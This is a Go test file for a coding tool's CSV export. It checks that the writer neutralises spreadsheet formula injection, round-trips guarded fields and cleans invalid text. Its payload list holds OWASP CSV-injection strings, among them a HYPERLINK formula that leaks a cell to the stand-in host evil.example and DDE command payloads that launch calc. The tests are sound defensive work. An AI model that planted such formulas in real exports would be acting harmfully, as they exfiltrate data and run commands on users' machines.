package coding

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// splitOutsideQuotes splits a CSV line on sep where it is not inside double quotes, as a
// reader with that delimiter does.
func splitOutsideQuotes(line string, sep rune) []string {
	var out []string
	var cur strings.Builder
	quoted := false
	for _, r := range line {
		switch {
		case r == '"':
			quoted = !quoted
		case r == sep && !quoted:
			out = append(out, cur.String())
			cur.Reset()
			continue
		}
		cur.WriteRune(r)
	}
	return append(out, cur.String())
}

// The OWASP CSV-injection payloads, and fields that carry one after a semicolon: whether a
// spreadsheet splits the line on "," or on ";", no cell it sees begins with a formula
// character; numbers stay numbers.
func TestCSVWriterNeutralisesFormulas(t *testing.T) {
	payloads := []string{
		"=1+1", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=cmd", "\r=cmd",
		`=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "=cmd|' /C calc'!A0",
		"ok;=cmd|' /C calc'!A0", "转介;+1", "a,b;@x",
	}
	var buf bytes.Buffer
	w := NewCSVWriter(&buf)
	for _, p := range payloads {
		if err := w.Write(p, Raw("-3"), Raw("12")); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	for i, line := range lines {
		if i >= len(payloads) {
			break
		}
		for _, sep := range []rune{',', ';'} {
			for _, cell := range splitOutsideQuotes(line, sep) {
				c := strings.Trim(cell, `"`)
				if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
					t.Errorf("payload %q: split on %q, a cell begins with a formula: %q (line %q)", payloads[i], sep, c, line)
				}
			}
		}
	}
	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range recs {
		if rec[1] != "-3" || rec[2] != "12" {
			t.Errorf("line %d: numbers %q %q, want -3 and 12 as they are", i+1, rec[1], rec[2])
		}
		if got := UnguardCSV(rec[0]); got != payloads[i] {
			t.Errorf("line %d reads back %q, want %q", i+1, got, payloads[i])
		}
	}
}

// The codings CSV turncoder writes reads back as it was, guarded fields and all.
func TestCodingsCSVRoundTripsGuardedFields(t *testing.T) {
	rows := []CodingRow{
		{Document: "=1+1 电话", Turn: 3, Coder: "@ana", Code: "-ve", Time: time.Unix(1, 0)},
		{Document: "calls; part 2", Turn: 4, Coder: "bo", Code: "referral", Time: time.Unix(2, 0)},
	}
	var buf bytes.Buffer
	if err := WriteCodingsCSV(&buf, rows); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "'=1+1 电话,3,'@ana,'-ve,") || !strings.Contains(buf.String(), `"calls; part 2",4,bo,referral`) {
		t.Errorf("written:\n%s", buf.String())
	}
	back, err := ReadCodingsCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range back {
		if r.Document != rows[i].Document || r.Coder != rows[i].Coder || r.Code != rows[i].Code || r.Turn != rows[i].Turn {
			t.Errorf("row %d reads back as %+v, was %+v", i, r, rows[i])
		}
	}
}

// Bytes that are not UTF-8 and control characters, which a merged file may carry into a
// coding's memo or a code's name, reach no CSV file: each becomes U+FFFD (issue 14).
func TestCSVWriterCleansText(t *testing.T) {
	var b strings.Builder
	w := NewCSVWriter(&b)
	w.Write("caf\xe9", "a\x01b\x7fc\u0085d", "line\nbreak\ttab", "转介", Raw("12"))
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "caf\uFFFD,a\uFFFDb\uFFFDc\uFFFDd,\"line\nbreak\ttab\",转介,12\n"
	if b.String() != want {
		t.Errorf("wrote %q, want %q", b.String(), want)
	}
	if !utf8.ValidString(b.String()) {
		t.Error("the CSV is not UTF-8")
	}
	if s := "清白的文本 plain"; CleanText(s) != s {
		t.Errorf("clean text changed: %q", CleanText(s))
	}
}
